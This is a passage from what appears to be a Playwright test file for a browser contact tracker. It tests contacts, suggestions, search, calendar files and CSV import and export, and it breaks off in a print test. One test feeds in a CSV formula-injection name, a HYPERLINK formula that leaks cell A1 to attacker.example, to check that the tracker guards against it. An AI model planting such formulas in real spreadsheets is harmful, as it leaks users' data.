"""Your people: the tracker of the reader's contacts, in a real Chromium on the tracker fixture (the demo
guidebook with a second chapter, keeping-in-touch, whose data names the tracker's waits and messages),
published at /people/ beside the demo sites.

Adding and editing people, logging contacts, each suggestion (one click, never automatic, dated by the
chapters' data), search and the views, delete and undo, calendar files parsed with icalendar, spreadsheets
both ways and every refusal, the progress page's export, import and clear, a full quota with 2,000 people,
two tabs, print, accessibility (axe in both schemes, keyboard only, labels, 320 px) and the Spanish
interface. The reader's path in every engine is in tests/test_engines.py; the pure logic in tests/js/.
"""

from __future__ import annotations

import calendar
import csv
import io
import json
import re
import shutil
from datetime import date, timedelta
from pathlib import Path

import icalendar
import pytest
import yaml

from helpers import (FILL_QUOTA, FIXTURES, FREE_QUOTA, PRINT_STUB, axe_report, drawn, keep_for_review, leaks,
                     make_fixture_project, mkdocs_build, pdf_page_count, reload, storage_key)

CSV = Path(__file__).parent / "tracker"
SITE = "people"  # where the tracker fixture is published, beside the demo sites
KEY = "keeping-in-touch/your-people"
TRACKER = "#gb-keeping-in-touch-your-people"
FORM = f"{TRACKER} .gb-person-form"
DATA = yaml.safe_load((FIXTURES / "tracker" / "checklists" / "keeping-in-touch.yml").read_text("utf-8"))
TIMINGS = {timing["id"]: timing for timing in DATA["timings"]}
TODAY = date.today()


@pytest.fixture(scope="session")
def people_site(demo_sites, tmp_path_factory) -> str:
    demo_sites.rebuild("tracker", SITE, tmp_path_factory.mktemp("tracker-projects"))
    return demo_sites.url(SITE)


@pytest.fixture
def tracker(open_page, people_site):
    """open(path="people/", **options) -> a page of the tracker fixture, drawn, whose clock starts on TODAY
    (today=None: the browser's own clock)."""
    def open_(path: str = "people/", **options):
        return open_page(path, base=people_site, **{"today": TODAY, **options})
    return open_


# --- Helpers ------------------------------------------------------------------------------------------


def iso(day: date) -> str:
    return day.isoformat()


def add_months(day: date, months: int) -> date:
    year, month = divmod(day.month - 1 + months, 12)
    year, month = day.year + year, month + 1
    return day.replace(year=year, month=month, day=min(day.day, calendar.monthrange(year, month)[1]))


def after(day: date, timing_id: str) -> date:
    """The day a wait of the chapter's data ends (months are calendar months)."""
    timing = TIMINGS[timing_id]
    if timing["unit"] == "month":
        return add_months(day, timing["count"])
    return day + timedelta(days=timing["count"] * (7 if timing["unit"] == "week" else 1))


def words_date(page, day: date) -> str:
    """A day as the page writes it (its language's long date)."""
    return page.evaluate("""(iso) => { const [y, m, d] = iso.split("-").map(Number);
        return new Intl.DateTimeFormat(document.documentElement.lang, { year: "numeric", month: "long", day: "numeric" })
          .format(new Date(y, m - 1, d)); }""", iso(day))


def people(page) -> dict:
    """The people as saved in localStorage, by id."""
    raw = page.evaluate("key => localStorage.getItem(key)", storage_key(KEY, f"/{SITE}/"))
    return json.loads(raw)["people"] if raw else {}


def by_name(page) -> dict:
    return {person["name"]: person for person in people(page).values()}


def seed(page, persons: list[dict]) -> dict:
    """Save these people (ids p0, p1, ...) as the script would, and reload."""
    saved = {f"p{number}": person for number, person in enumerate(persons)}
    page.evaluate("([key, value]) => localStorage.setItem(key, JSON.stringify(value))",
                  [storage_key(KEY, f"/{SITE}/"), {"people": saved}])
    reload(page)
    return saved


def add(page, name: str, *, met: bool = False, tie: str = "", **fields) -> None:
    page.click(f"{TRACKER} [data-gb-action='add']")
    page.fill(f"{FORM} [data-gb-field='name']", name)
    for field, value in fields.items():
        page.fill(f"{FORM} [data-gb-field='{field}']", value)
    if met:
        page.check(f"{FORM} [data-gb-field='met']")
    page.check(f"{FORM} [data-gb-field='tie'][value='{tie}']")
    page.click(f"{FORM} [data-gb-action='save']")
    page.wait_for_function("document.querySelector('.gb-person-form').open === false")


def row(page, name: str):
    return page.locator(f"{TRACKER} li[data-gb-person]", has=page.locator("summary strong", has_text=name))


def open_person(page, name: str):
    person = row(page, name)
    if not person.locator("details").evaluate("details => details.open"):
        person.locator("summary").click()
    return person


def status(page) -> str:
    return page.inner_text(f"{TRACKER} .gb-status")


def message(page) -> str:
    page.wait_for_function(f"document.querySelector('{TRACKER} .gb-message').textContent !== ''")
    return page.inner_text(f"{TRACKER} .gb-message")


def choose_file(page, path: Path) -> str:
    """Choose a spreadsheet to import; returns what the page says about it."""
    page.evaluate(f"document.querySelector('{TRACKER} .gb-message').textContent = ''")
    page.set_input_files(f"{TRACKER} [data-gb-csv]", str(path))
    return message(page)


def download(page, selector: str, tmp_path: Path) -> Path:
    with page.expect_download() as started:
        page.click(selector)
    path = tmp_path / started.value.suggested_filename
    started.value.save_as(path)
    return path


def views(page) -> dict[str, list[str]]:
    """The names each view shows, in order (hidden views and people left out)."""
    return page.evaluate(f"""() => Object.fromEntries([...document.querySelectorAll('{TRACKER} [data-gb-group]')]
        .filter((group) => !group.hidden).map((group) => [group.dataset.gbGroup,
          [...group.querySelectorAll('li[data-gb-person]:not([hidden]) summary strong')].map((name) => name.textContent)]))""")


# --- Without JavaScript -------------------------------------------------------------------------------


def test_without_javascript_the_page_explains_the_tool_and_offers_the_blank_table(tracker):
    page = tracker(javascript=False)
    assert page.is_visible(f"{TRACKER} .gb-without-script")
    assert "needs JavaScript" in page.inner_text(f"{TRACKER} .gb-without-script")
    assert not page.is_visible(f"{TRACKER} .gb-tool"), "controls that need the script stay hidden"
    table = f"{TRACKER} table[data-gb-paper]"
    assert page.is_visible(table)
    assert page.inner_text(f"{table} caption") == "Contact table"
    assert page.eval_on_selector_all(f"{table} thead th", "cells => cells.map(c => c.textContent)") == [
        "Name", "How you know them", "Close or loose", "What you promised", "Next step", "By", "Last contact"]
    assert page.eval_on_selector_all(f"{table} tbody td", "cells => cells.every(c => c.textContent === '')")
    assert page.locator(f"{table} tbody tr").count() == 14
    page.emulate_media(media="print")
    assert page.is_visible(table), "the blank table prints"
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")


# --- A person, and the chapters' suggestions ----------------------------------------------------------------


def test_adding_a_person_and_logging_a_contact(tracker):
    page = tracker()
    assert page.is_visible(f"{TRACKER} .gb-empty") and not page.is_visible(f"{TRACKER} table[data-gb-paper]")
    add(page, "Ana Silva", tie="close", how="Research meetup", talked="Small teams", promised="The article",
        notes="Likes chess")
    assert status(page) == "Added Ana Silva."
    [(person_id, ana)] = people(page).items()
    assert ana == {"name": "Ana Silva", "how": "Research meetup", "talked": "Small teams", "promised": "The article",
                   "tie": "close", "notes": "Likes chess"}
    assert page.get_attribute(f"{TRACKER} .gb-counts", "role") == "status"
    assert page.inner_text(f"{TRACKER} .gb-counts") == \
        "1 person: 0 overdue, 0 due this week, 0 later, 1 with no next step."
    person = row(page, "Ana Silva")
    assert person.locator("details").evaluate("d => d.open"), "the new person is opened"
    details = person.inner_text()
    for shown in ("Research meetup", "Small teams", "The article", "Close", "Likes chess", "No contact yet"):
        assert shown in details, shown

    person.locator("[data-gb-action='wrote']").click()
    assert status(page) == "Noted: you wrote to Ana Silva today."
    assert people(page)[person_id]["last"] == iso(TODAY) and people(page)[person_id]["waiting"] is True
    assert f"You wrote on {words_date(page, TODAY)}; no reply yet" in person.locator("summary").inner_text()
    person.locator("[data-gb-action='replied']").click()
    assert status(page) == "Noted: Ana Silva replied today."
    assert "waiting" not in people(page)[person_id]
    assert person.locator("[data-gb-action='replied']").count() == 0
    person.locator("[data-gb-action='spoke']").click()
    assert status(page) == "Noted: you spoke with Ana Silva today."
    assert f"Last contact: {words_date(page, TODAY)}" in person.locator("summary").inner_text()

    person.locator("[data-gb-action='edit']").click()
    assert page.inner_text(f"{FORM} h2") == "Edit Ana Silva"
    assert page.input_value(f"{FORM} [data-gb-field='how']") == "Research meetup"
    assert not page.is_visible(f"{FORM} [data-gb-field='met']"), "'We met today' is for someone new"
    page.fill(f"{FORM} [data-gb-field='next']", "Coffee")
    page.fill(f"{FORM} [data-gb-field='due']", iso(TODAY + timedelta(days=30)))
    page.fill(f"{FORM} [data-gb-field='url']", "https://example.org/in/ana")
    page.click(f"{FORM} [data-gb-action='save']")
    assert status(page) == "Saved Ana Silva."
    reload(page)
    ana = people(page)[person_id]
    assert (ana["next"], ana["due"], ana["last"], ana["url"]) == (
        "Coffee", iso(TODAY + timedelta(days=30)), iso(TODAY), "https://example.org/in/ana")
    assert views(page) == {"later": ["Ana Silva"]}


def test_a_name_is_required_and_escape_cancels(tracker):
    page = tracker()
    page.click(f"{TRACKER} [data-gb-action='add']")
    page.click(f"{FORM} [data-gb-action='save']")
    assert page.evaluate("document.querySelector('.gb-person-form').open"), "no name: the dialog stays open"
    assert page.evaluate("document.querySelector('.gb-person-form [data-gb-field=name]').validity.valueMissing")
    page.keyboard.press("Escape")
    assert not page.evaluate("document.querySelector('.gb-person-form').open")
    assert people(page) == {}


def test_the_suggestions_take_their_waits_from_the_chapters_data(tracker):
    page = tracker()
    steps = json.loads(page.get_attribute(TRACKER, "data-gb-part"))["steps"]
    tracker_data = DATA["trackers"][0]
    for step in ("follow_up", "nudge", "keep_in_touch"):
        timing = TIMINGS[tracker_data[step]["timing"]]
        assert steps[step] == {"count": timing["count"], "unit": timing["unit"], "label": timing["label"]}


def test_each_suggestion_takes_one_click_and_is_never_made_automatically(tracker):
    page = tracker()
    add(page, "Priya Shah", met=True)
    assert "due" not in by_name(page)["Priya Shah"], "offered, not made"
    follow_up = after(TODAY, "follow-up")
    button = row(page, "Priya Shah").locator(".gb-suggestions button")
    assert button.inner_text() == f"Follow up by {words_date(page, follow_up)}"
    assert button.evaluate("b => b === document.activeElement"), "the suggestion has the focus once the dialog closes"
    button.click()
    priya = by_name(page)["Priya Shah"]
    assert (priya["next"], priya["due"], priya["step"], priya["met"]) == ("Follow up", iso(follow_up), "follow_up", iso(TODAY))
    assert status(page) == f"Next step for Priya Shah: Follow up, by {words_date(page, follow_up)}."
    assert views(page) == {"week": ["Priya Shah"]}

    add(page, "Ben Ode")
    assert row(page, "Ben Ode").locator(".gb-suggestions button").count() == 0, "no meeting, no closeness: nothing"
    row(page, "Ben Ode").locator("[data-gb-action='wrote']").click()
    nudge = after(TODAY, "nudge")
    button = row(page, "Ben Ode").locator(".gb-suggestions button")
    assert button.inner_text() == f"Nudge by {words_date(page, nudge)}"
    assert "due" not in by_name(page)["Ben Ode"]
    button.click()
    assert by_name(page)["Ben Ode"]["due"] == iso(nudge) and by_name(page)["Ben Ode"]["step"] == "nudge"

    add(page, "Carla Díaz", tie="close")
    keep = after(TODAY, "keep-in-touch")
    button = row(page, "Carla Díaz").locator(".gb-suggestions button")
    assert button.inner_text() == f"Keep in touch by {words_date(page, keep)}"
    assert keep == add_months(TODAY, 3)
    button.click()
    assert by_name(page)["Carla Díaz"]["due"] == iso(keep)

    # Writing to Priya on the day her follow-up is due makes it done; a nudge is offered, not made.
    seed(page, [{**by_name(page)["Priya Shah"], "due": iso(TODAY)}])
    open_person(page, "Priya Shah").locator("[data-gb-action='wrote']").click()
    priya = by_name(page)["Priya Shah"]
    assert "due" not in priya and priya["waiting"] is True
    assert row(page, "Priya Shah").locator(".gb-suggestions button").inner_text() == f"Nudge by {words_date(page, nudge)}"


def test_write_the_message_opens_the_right_template_with_their_name(tracker):
    page = tracker()
    add(page, "Priya Shah", met=True)
    link = row(page, "Priya Shah").locator(".gb-write")
    assert link.get_attribute("href") == "../toolkit/#gb-demo-thank-you&their_name=Priya"
    page.evaluate("window.stillTheSameDocument = true")
    link.click()
    page.wait_for_function("document.querySelector('#gb-demo-thank-you[data-gb-ready]') !== null")
    page.wait_for_function("location.hash === '#gb-demo-thank-you'")
    assert page.evaluate("window.stillTheSameDocument"), "instant navigation took the reader there"
    assert page.input_value("#gb-demo-thank-you [data-gb-blank='their_name']") == "Priya"
    assert page.inner_text("#gb-demo-thank-you .gb-text").startswith("Hi Priya, thank you for")
    assert page.evaluate("document.activeElement.dataset.gbBlank") == "their_name"
    assert page.evaluate("(() => { const r = document.querySelector('#gb-demo-thank-you').getBoundingClientRect();"
                         " return r.top < innerHeight && r.bottom > 0; })()"), "the template is in view"
    # Nothing but the tracker keeps her name: not the address, not the history, not the toolkit's storage.
    assert "Priya" not in page.url
    stored = page.evaluate("Object.entries(localStorage).filter(([k]) => !k.endsWith('/your-people'))")
    assert not [entry for entry in stored if "Priya" in entry[1]]

    page.go_back()
    page.wait_for_selector(f"{TRACKER}[data-gb-ready]")
    drawn(page)
    row(page, "Priya Shah").locator("summary").click()
    row(page, "Priya Shah").locator("[data-gb-action='wrote']").click()
    assert row(page, "Priya Shah").locator(".gb-write").get_attribute("href").startswith("../toolkit/#gb-keeping-in-touch-nudge&")
    add(page, "Carla Díaz", tie="close")
    assert row(page, "Carla Díaz").locator(".gb-write").get_attribute("href") == \
        "../toolkit/#gb-keeping-in-touch-keep-in-touch&their_name=Carla"


# --- The views and search -------------------------------------------------------------------------------


VIEW_PEOPLE = [
    {"name": "Zoë Adams", "due": iso(TODAY + timedelta(days=2)), "next": "Coffee"},
    {"name": "Ana Silva", "due": iso(TODAY - timedelta(days=3)), "next": "Send update", "how": "Research meetup"},
    {"name": "Ben Ode", "due": iso(TODAY + timedelta(days=40)), "next": "Lunch", "last": iso(TODAY - timedelta(days=9))},
    {"name": "Dev Patel", "last": iso(TODAY - timedelta(days=60)), "notes": "Met at the design MEETUP"},
    {"name": "Émile Roux", "due": iso(TODAY), "next": "Call", "last": iso(TODAY - timedelta(days=1))},
    {"name": "Carl Berg", "last": iso(TODAY - timedelta(days=5))},
    {"name": "José Núñez", "promised": "An introduction to Marta"},
]


def test_the_views_sort_by_date_and_re_sort(tracker):
    page = tracker()
    seed(page, VIEW_PEOPLE)
    assert views(page) == {"overdue": ["Ana Silva"], "week": ["Émile Roux", "Zoë Adams"], "later": ["Ben Ode"],
                           "none": ["José Núñez", "Dev Patel", "Carl Berg"]}
    assert page.inner_text(f"{TRACKER} [data-gb-group='week'] h2") == "Due this week (2)"
    assert page.inner_text(f"{TRACKER} .gb-counts") == \
        "7 people: 1 overdue, 2 due this week, 1 later, 3 with no next step."
    page.select_option(f"{TRACKER} [data-gb-sort]", "name")
    assert views(page)["week"] == ["Émile Roux", "Zoë Adams"] and views(page)["none"] == ["Carl Berg", "Dev Patel", "José Núñez"]
    page.select_option(f"{TRACKER} [data-gb-sort]", "last")
    assert views(page)["none"] == ["José Núñez", "Dev Patel", "Carl Berg"]
    assert views(page)["week"] == ["Zoë Adams", "Émile Roux"]


def test_search_filters_on_any_text_and_the_counts_are_announced(tracker):
    page = tracker()
    seed(page, VIEW_PEOPLE)
    search = f"{TRACKER} [data-gb-search]"
    page.fill(search, "meetup")
    assert views(page) == {"overdue": ["Ana Silva"], "none": ["Dev Patel"]}
    assert page.inner_text(f"{TRACKER} .gb-counts") == "2 of 7 people match “meetup”."
    page.fill(search, "JOSE")
    assert views(page) == {"none": ["José Núñez"]}, "accents and capitals do not matter"
    page.fill(search, "marta")
    assert views(page) == {"none": ["José Núñez"]}, "what you promised is searched too"
    page.fill(search, "lunch")
    assert views(page) == {"later": ["Ben Ode"]}
    page.fill(search, "nobody like this")
    assert views(page) == {}
    assert page.inner_text(f"{TRACKER} .gb-counts") == "0 of 7 people match “nobody like this”."
    page.fill(search, "")
    assert sum(len(names) for names in views(page).values()) == 7


def test_a_long_view_shows_its_first_hundred_and_search_finds_everyone(tracker):
    page = tracker()
    seed(page, [{"name": f"Person {n:03d}"} for n in range(150)] + [{"name": "Ana Silva", "due": iso(TODAY)}])
    assert page.inner_text(f"{TRACKER} .gb-counts").startswith("151 people: 0 overdue, 1 due this week, 0 later, 150 ")
    none = f"{TRACKER} [data-gb-group='none']"
    assert page.locator(f"{none} li").count() == 100 and page.inner_text(f"{none} h2") == "No next step (150)"
    assert page.is_visible(f"{none} [data-gb-action='show-all']")
    assert not page.is_visible(f"{TRACKER} [data-gb-group='week'] [data-gb-action='show-all']")
    page.fill(f"{TRACKER} [data-gb-search]", "person 14")
    assert views(page) == {"none": [f"Person {n}" for n in range(140, 150)]}, "search looks beyond the first 100"
    page.fill(f"{TRACKER} [data-gb-search]", "")
    page.click(f"{none} [data-gb-action='show-all']")
    assert page.locator(f"{none} li").count() == 150 and not page.is_visible(f"{none} [data-gb-action='show-all']")


def test_delete_asks_first_and_undo_brings_the_person_back(tracker):
    page = tracker()
    saved = seed(page, VIEW_PEOPLE[:2])
    dialogs = []
    page.once("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    open_person(page, "Ana Silva").locator("[data-gb-action='delete']").click()
    assert dialogs == ["Delete Ana Silva from your people on this device?"]
    assert "p1" in people(page), "dismissed: nothing is deleted"
    page.once("dialog", lambda dialog: dialog.accept())
    row(page, "Ana Silva").locator("[data-gb-action='delete']").click()
    assert status(page) == "Deleted Ana Silva."
    assert set(people(page)) == {"p0"} and row(page, "Ana Silva").count() == 0
    assert page.evaluate("document.activeElement.dataset.gbAction") == "undo"
    page.click(f"{TRACKER} [data-gb-action='undo']")
    assert status(page) == "Ana Silva is back."
    assert people(page) == saved
    assert not page.is_visible(f"{TRACKER} [data-gb-action='undo']")


# --- Calendars -----------------------------------------------------------------------------------------


CALENDAR_PEOPLE = [
    {"name": "Lee, Jordan; Jr. 🙂", "next": "Follow up; send the link, please", "due": iso(TODAY + timedelta(days=3)),
     "promised": "The article, and an introduction", "notes": ("Notes of two hundred characters, with commas, semicolons; "
                                                             "and a backslash \\ and an emoji 🙂 ").ljust(200, "x")},
    {"name": "Ana Silva", "next": "Coffee", "due": iso(TODAY + timedelta(days=40))},
    {"name": "Ben Ode", "next": "Overdue, not upcoming", "due": iso(TODAY - timedelta(days=1))},
    {"name": "Dev Patel"},
]


def parse_calendar(path: Path) -> icalendar.Calendar:
    raw = path.read_bytes()
    assert b"\n" not in raw.replace(b"\r\n", b""), "every line ends in CRLF"
    for line in raw.split(b"\r\n"):
        assert len(line) <= 75, f"a line of {len(line)} octets: {line!r}"
        line.decode("utf-8")  # a fold never splits a character
    return icalendar.Calendar.from_ical(raw)


def test_a_next_step_and_all_upcoming_ones_download_as_calendar_files(tracker, tmp_path):
    page = tracker(accept_downloads=True)
    seed(page, CALENDAR_PEOPLE)
    jordan = CALENDAR_PEOPLE[0]
    assert open_person(page, "Dev Patel").locator("[data-gb-action='calendar']").count() == 0, "no date, no event"
    open_person(page, "Lee, Jordan")
    path = download(page, f"{TRACKER} li[data-gb-person='p0'] [data-gb-action='calendar']", tmp_path)
    assert path.name == f"your-people-{jordan['due']}.ics"
    assert message(page).startswith(f"The next step was saved to {path.name}.")
    one = parse_calendar(path)
    assert one["VERSION"] == "2.0" and one["PRODID"].startswith("-//")
    [event] = one.walk("VEVENT")
    assert str(event["SUMMARY"]) == f"{jordan['next']}: {jordan['name']}"
    assert str(event["DESCRIPTION"]) == f"You promised: {jordan['promised']}\n\n{jordan['notes']}"
    assert event["DTSTART"].params["VALUE"] == "DATE" and event["DTEND"].params["VALUE"] == "DATE"
    assert event.decoded("DTSTART") == TODAY + timedelta(days=3)
    assert event.decoded("DTEND") == TODAY + timedelta(days=4), "all day: the end is exclusive"
    assert str(event["UID"]).startswith(f"p0-{jordan['due']}@")
    stamp = event.decoded("DTSTAMP")
    assert stamp.tzinfo is not None and abs(stamp.timestamp() - page.evaluate("Date.now() / 1000")) < 120

    path = download(page, f"{TRACKER} [data-gb-action='calendar-all']", tmp_path)
    assert path.name == f"your-people-{iso(TODAY)}.ics"
    assert message(page).startswith(f"2 upcoming next steps were saved to {path.name}.")
    events = parse_calendar(path).walk("VEVENT")
    assert [str(e["SUMMARY"]) for e in events] == ["Follow up; send the link, please: Lee, Jordan; Jr. 🙂", "Coffee: Ana Silva"]
    assert len({str(e["UID"]) for e in events}) == 2 and all("DTSTAMP" in e for e in events)
    assert events[1].decoded("DTEND") - events[1].decoded("DTSTART") == timedelta(days=1)
    assert "DESCRIPTION" not in events[1]


def test_no_upcoming_next_step_means_no_file(tracker):
    page = tracker()
    seed(page, [CALENDAR_PEOPLE[2], CALENDAR_PEOPLE[3]])
    page.click(f"{TRACKER} [data-gb-action='calendar-all']")
    assert message(page) == "No upcoming next steps to add to a calendar."


# --- Spreadsheets ---------------------------------------------------------------------------------------


ROUND_TRIP = [
    {"name": "José Ñúñez 🙂", "how": "Meetup, February", "talked": "Interviews;\nsmall teams", "promised": "=HYPERLINK(\"x\")",
     "tie": "close", "next": "Coffee", "due": iso(TODAY + timedelta(days=3)), "last": iso(TODAY - timedelta(days=2)),
     "met": iso(TODAY - timedelta(days=2)), "waiting": True, "url": "https://example.org/in/j",
     "notes": "+44 20 7946 0000\n- bring the book, \"soon\""},
    {"name": "@handle", "tie": "loose", "notes": "\ttabbed"},
    {"name": "Ana"},
]


def test_the_csv_round_trip_keeps_everyone_and_guards_formulas(tracker, tmp_path):
    page = tracker(accept_downloads=True)
    seed(page, ROUND_TRIP)
    path = download(page, f"{TRACKER} [data-gb-action='export-csv']", tmp_path)
    assert path.name == f"your-people-{iso(TODAY)}.csv"
    assert message(page) == f"Your people were saved to {path.name}."
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfname,how_you_know_them,"), "UTF-8 with a byte order mark"
    text = raw.decode("utf-8-sig")
    assert "\"'=HYPERLINK(\"\"x\"\")\"" in text and "'@handle," in text and "'\ttabbed" in text and "\"'+44 20" in text
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [r["name"] for r in rows] == ["José Ñúñez 🙂", "'@handle", "Ana"], "Python's csv reads it as RFC 4180"
    assert rows[0]["talked_about"] == "Interviews;\nsmall teams" and rows[0]["closeness"] == "close"

    page.evaluate("key => localStorage.removeItem(key)", storage_key(KEY, f"/{SITE}/"))
    reload(page)
    assert choose_file(page, path) == \
        "People to add: 3. Duplicates to skip (same name and profile link): 0. Nothing is saved until you choose Import."
    assert people(page) == {}, "nothing is written before the reader confirms"
    page.click(f"{TRACKER} [data-gb-action='import-csv']")
    assert message(page) == "Added 3 people from the file."
    assert sorted(people(page).values(), key=lambda p: p["name"]) == sorted(ROUND_TRIP, key=lambda p: p["name"])
    assert choose_file(page, path).startswith("People to add: 0. Duplicates to skip (same name and profile link): 3.")


def test_importing_the_network_export_adds_people_and_skips_duplicates(tracker):
    page = tracker()
    seed(page, [{"name": "Priya Shah", "url": "https://www.example.com/in/priya", "notes": "mine"}])
    assert choose_file(page, CSV / "connections.csv").startswith(
        "People to add: 2. Duplicates to skip (same name and profile link): 2.")
    page.click(f"{TRACKER} [data-gb-action='cancel-csv']")
    assert message(page) == "Import cancelled. Nothing was changed."
    assert len(people(page)) == 1
    choose_file(page, CSV / "connections.csv")
    page.click(f"{TRACKER} [data-gb-action='import-csv']")
    assert message(page) == "Added 2 people from the file."
    saved = by_name(page)
    assert saved["Ana Silva"] == {"name": "Ana Silva", "url": "https://www.example.com/in/ana-silva",
                                  "how": "Research lead, Northwind", "met": "2023-12-04"}
    assert saved["Priya Shah"]["notes"] == "mine", "the person already here is kept as they were"
    assert "ana@example.org" not in json.dumps(saved)
    open_person(page, "Ana Silva")
    assert row(page, "Ana Silva").locator(".gb-suggestions button").count() == 0, "no follow-up for an old connection"
    link = row(page, "Ana Silva").locator(".gb-fields a")
    assert link.get_attribute("href") == "https://www.example.com/in/ana-silva"


def test_formula_cells_are_imported_as_text_and_exported_guarded(tracker, tmp_path):
    page = tracker(accept_downloads=True)
    choose_file(page, CSV / "formulas.csv")
    page.click(f"{TRACKER} [data-gb-action='import-csv']")
    names = sorted(by_name(page))
    assert names == ['=HYPERLINK("http://attacker.example/?leak="&A1;"Click") Smith', "@SUM(1+1) Jones"]
    assert sorted(page.locator(f"{TRACKER} summary strong").all_inner_texts()) == names, "shown as text"
    text = download(page, f"{TRACKER} [data-gb-action='export-csv']", tmp_path).read_bytes().decode("utf-8-sig")
    cells = [cell for line in csv.reader(io.StringIO(text, newline="")) for cell in line]
    assert "'=HYPERLINK(\"http://attacker.example/?leak=\"&A1;\"Click\") Smith" in cells and "'@SUM(1+1) Jones" in cells
    assert not [cell for cell in cells if re.match(r"[=+\-@\t\r]", cell)], "no cell starts a formula"


def test_ten_thousand_rows_import(tracker):
    page = tracker()
    assert choose_file(page, CSV / "ten-thousand-rows.csv").startswith("People to add: 10,000. Duplicates to skip (same name and profile link): 0.")
    page.click(f"{TRACKER} [data-gb-action='import-csv']")
    assert message(page) == "Added 10,000 people from the file."
    assert page.inner_text(f"{TRACKER} .gb-counts").startswith("10,000 people: ")
    assert len(people(page)) == 10_000 or page.locator(".gb-notice").count() == 1


REFUSALS = {
    "empty.csv": "The file is empty. Nothing was changed.",
    "wrong-encoding.csv": "Line 3 is not UTF-8 text. Save the file as “CSV UTF-8” and try again. Nothing was changed.",
    "missing-header.csv": "The file has no header row this page knows (line 1): it needs the columns of this page’s "
                          "export, or First Name, Last Name and URL. Nothing was changed.",
    "unclosed-quote.csv": "Line 3 opens a quoted cell that is never closed. Nothing was changed.",
    "too-many-cells.csv": "Line 3 has 8 cells, but the header names 7. Nothing was changed.",
    "no-name.csv": "Line 3 has no name. Every person needs one. Nothing was changed.",
    "bad-date.csv": "Line 2: “next Tuesday” is not a date. Write dates as 2025-06-30. Nothing was changed.",
    "bad-closeness.csv": "Line 2: “best friends” is not close or loose. Nothing was changed.",
}


def test_every_file_that_cannot_be_read_is_refused_naming_the_line(tracker):
    page = tracker()
    saved = seed(page, [{"name": "Ana Silva"}])
    for name, refusal in REFUSALS.items():
        assert choose_file(page, CSV / name) == refusal, name
        assert not page.is_visible(f"{TRACKER} [data-gb-action='import-csv']"), name
    assert people(page) == saved


# --- The progress page: export, import, clear -----------------------------------------------------------


def test_the_progress_page_exports_imports_and_clears_them(tracker, tmp_path):
    page = tracker(accept_downloads=True)
    saved = seed(page, VIEW_PEOPLE)
    progress = tracker("progress/", context=page.context)
    exported = json.loads(download(progress, "[data-gb-action='export']", tmp_path).read_text("utf-8"))
    assert exported["entries"][KEY] == {"people": saved}
    progress.once("dialog", lambda dialog: dialog.accept())
    progress.click("[data-gb-action='clear']")
    reload(page)
    assert people(page) == {} and page.is_visible(f"{TRACKER} .gb-empty")

    path = tmp_path / "progress.json"
    path.write_text(json.dumps(exported), "utf-8")
    progress.set_input_files("[data-gb-import]", str(path))
    progress.wait_for_selector(".gb-import-choice:not([hidden])")
    progress.click("[data-gb-action='import']")
    assert people(page) == saved
    # Merging keeps the people of both: this device's and the file's.
    page.bring_to_front()
    reload(page)
    add(page, "New Person")
    progress.bring_to_front()
    progress.set_input_files("[data-gb-import]", str(path))
    progress.wait_for_selector(".gb-import-choice:not([hidden])")
    progress.check("[name='gb-import-mode'][value='merge']")
    progress.click("[data-gb-action='import']")
    assert set(by_name(page)) == {p["name"] for p in VIEW_PEOPLE} | {"New Person"}

    damaged = json.loads(json.dumps(exported))
    damaged["entries"][KEY]["people"]["p0"]["due"] = "soon"
    path.write_text(json.dumps(damaged), "utf-8")
    progress.set_input_files("[data-gb-import]", str(path))
    progress.wait_for_function("document.querySelector('.gb-message').textContent.includes('Your people')")
    assert "is not in the form this guidebook saves" in progress.inner_text(".gb-message")


# --- Storage: a full quota, two tabs --------------------------------------------------------------------


def many(count: int) -> list[dict]:
    return [{"name": f"Person {n} Example", "how": f"Met at the meetup number {n}, in the big hall",
             "talked": "Research with small teams and how to start", "promised": "Send the article on note-taking",
             "tie": "close" if n % 3 else "loose", "next": "Coffee next month",
             "due": iso(TODAY + timedelta(days=n % 90 - 30)), "last": iso(TODAY - timedelta(days=n % 200)),
             "notes": "Likes chess and long walks; has two cats. Ask about the new project."} for n in range(count)]


def test_a_full_quota_with_2000_people_shows_the_notice_and_loses_nothing(tracker, tmp_path):
    page = tracker(accept_downloads=True)
    seed(page, many(2000))
    assert page.evaluate(FILL_QUOTA) > 0
    add(page, "Zed After Quota")
    assert page.locator(".gb-notice").count() == 1
    note = page.inner_text(f"{TRACKER} .gb-unsaved")
    assert "storage for this site is full" in note and "export your people" in note
    assert len(people(page)) == 2000, "storage still holds what it had"
    assert page.inner_text(f"{TRACKER} .gb-counts").startswith("2,001 people: ")
    path = download(page, f"{TRACKER} .gb-unsaved [data-gb-action='export-csv']", tmp_path)
    text = path.read_bytes().decode("utf-8-sig")
    assert text.count("\r\n") == 2002 and "Zed After Quota" in text, "the export has everyone, the unsaved one too"
    page.evaluate(FREE_QUOTA)
    open_person(page, "Zed After Quota").locator("[data-gb-action='spoke']").click()
    assert len(people(page)) == 2001 and by_name(page)["Zed After Quota"]["last"] == iso(TODAY)
    assert page.locator(".gb-notice").count() == 0 and page.locator(f"{TRACKER} .gb-unsaved").count() == 0


def test_two_tabs_editing_different_people_lose_neither_change(tracker):
    first = tracker()
    seed(first, [{"name": "Ana Silva"}, {"name": "Ben Ode"}])
    second = tracker(context=first.context)
    first.bring_to_front()
    open_person(first, "Ana Silva").locator("[data-gb-action='wrote']").click()
    second.bring_to_front()
    # The second tab changes Ben whether or not it has drawn Ana's change yet: it reads what is saved first.
    second.evaluate("key => { window.addEventListener('storage', (e) => e.stopImmediatePropagation(), true); }",
                    storage_key(KEY, f"/{SITE}/"))
    open_person(second, "Ben Ode").locator("[data-gb-action='spoke']").click()
    saved = by_name(second)
    assert saved["Ana Silva"]["waiting"] is True and saved["Ben Ode"]["last"] == iso(TODAY)
    first.bring_to_front()
    first.wait_for_function(f"document.querySelector('{TRACKER} li[data-gb-person=\"p1\"] summary').textContent.includes('Last contact')")
    add(first, "Carla Díaz")
    assert set(by_name(first)) == {"Ana Silva", "Ben Ode", "Carla Díaz"}
    assert by_name(first)["Ben Ode"]["last"] == iso(TODAY), "the first tab kept the second tab's change"


# --- Print -------------------------------------------------------------------------------------------


def test_print_gives_a_compact_table_and_never_splits_a_row(tracker):
    from pypdf import PdfReader

    page = tracker(init_script=PRINT_STUB)
    long_people = [{**person, "name": f"Person {n:02d}", "how": "How we met, told at length: " + "we talked " * 17,
